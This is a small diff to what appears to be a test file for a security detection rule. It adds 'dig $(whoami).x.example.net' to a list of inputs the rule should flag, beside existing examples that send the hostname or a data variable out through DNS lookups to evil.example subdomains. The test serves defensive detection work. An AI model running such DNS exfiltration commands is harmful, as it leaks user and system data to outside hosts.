@@ -3,6 +3,7 @@ import { describeRule } from '../../rule-examples.ts';
 
 describeRule(rule, {
   fires: [
+    'dig $(whoami).x.example.net',
     'dig $(cat /etc/hostname | base64).x.evil.example',
     'nslookup "$DATA.data.evil.example"',
   ],
